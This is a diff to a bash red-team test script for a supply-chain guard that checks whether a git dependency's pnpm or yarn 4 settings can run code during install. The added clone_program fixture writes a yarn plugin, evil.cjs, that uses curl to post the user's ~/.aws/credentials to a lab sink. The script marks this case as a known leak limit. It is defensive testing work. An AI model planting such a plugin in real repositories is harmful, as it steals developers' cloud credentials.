@@ -1,7 +1,7 @@
 #!/bin/bash
 # R58: settings in a git dependency's own repository that make the manager itself, working in the
-# clone, run code of it: pnpm's .pnpmfile.cjs is stopped, what yarn 4's yarnPath starts gets through
-# (SECURITY.md). And what an honest clone depends on is fetched.
+# clone, run code of it: pnpm's .pnpmfile.cjs, yarn 4's yarnPath and plugins. Programs that a plugin
+# starts are a limit (SECURITY.md). And what an honest clone depends on is fetched.
 # vm: no (git, and downloads the managers)
 set -u
 cd "$(dirname "$0")/../.." || exit 2
@@ -28,6 +28,13 @@ clone_yarnpath() {
 clone_plugin() {
 	{ echo 'module.exports = { name: "p", factory: () => {'; steal plugin
 		echo 'return {}; } };'; } >evil.cjs
+	printf 'plugins:\n  - ./evil.cjs\n' >.yarnrc.yml
+	printf '__metadata:\n  version: 8\n' >yarn.lock
+}
+clone_program() { # a limit
+	printf 'module.exports = { name: "p", factory: () => { %s return {}; } };\n' \
+		"require('child_process').execFileSync('curl', ['-s', '--data-binary', \
+'@$RT_HOME/.aws/credentials', 'http://$RT_SINK/program']);" >evil.cjs
 	printf 'plugins:\n  - ./evil.cjs\n' >.yarnrc.yml
 	printf '__metadata:\n  version: 8\n' >yarn.lock
 }
@@ -63,7 +70,7 @@ rt_setup() {
 		}' "$dir" "$LAB_REGISTRY" "$MANAGER")
 	chown -R "$LAB_UID:$LAB_GID" "$RT_PROJECT"
 }
-for row in ${ROWS:-pnpm10:pnpmfile yarn4:yarnpath yarn4:plugin}; do
+for row in ${ROWS:-pnpm10:pnpmfile yarn4:yarnpath yarn4:plugin yarn4:program}; do
 	MANAGER=${row%:*} KIND=${row#*:}
 	managers_have "$MANAGER" || { echo "# $row left out: unavailable"; continue; }
 	bin=$MANAGERS/$MANAGER/node_modules/.bin
@@ -78,13 +85,10 @@ for row in ${ROWS:-pnpm10:pnpmfile yarn4:yarnpath yarn4:plugin}; do
 	rt_leaked .aws/credentials
 	rt_guarded "$KIND" || continue
 	rt_no_survivors
-	if [ "$KIND" = yarnpath ]; then # a limit
-		rt_leaked .aws/credentials
-	else
-		rt_is 'exit status' "$RT_STATUS" 86
-		rt_ok 'it is accused' rt_events wormsign.verdict=kill rule.id=cloud-credentials
-		rt_silent
-	fi
+	[ "$KIND" != program ] || { rt_leaked .aws/credentials; continue; } # SECURITY.md
+	rt_is 'exit status' "$RT_STATUS" 86
+	rt_ok 'it is accused' rt_events wormsign.verdict=kill rule.id=cloud-credentials
+	rt_silent
 done
 
 # Honest: what the clone itself depends on is fetched by ssh, with the user's key.
